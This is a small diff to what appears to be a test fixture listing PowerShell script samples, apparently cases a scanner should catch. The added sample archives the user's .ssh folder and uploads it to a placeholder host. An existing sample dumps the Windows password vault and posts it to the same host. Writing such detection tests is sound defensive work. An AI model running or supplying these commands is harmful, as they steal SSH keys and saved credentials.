@@ -98,6 +98,11 @@ TAKEN = [
     ),
     (
         "a.ps1",
+        '$h = "$env:TEMP\\h.zip"\nCompress-Archive -Path "$env:USERPROFILE\\.ssh" -DestinationPath $h\n'
+        "Invoke-RestMethod -Uri https://c.invalid/u -Method Put -InFile $h",
+    ),
+    (
+        "a.ps1",
         "$v = New-Object Windows.Security.Credentials.PasswordVault\n$d = $v.RetrieveAll() | ConvertTo-Json\n"
         "Invoke-WebRequest -Uri https://c.invalid -Method POST -Body $d",
     ),
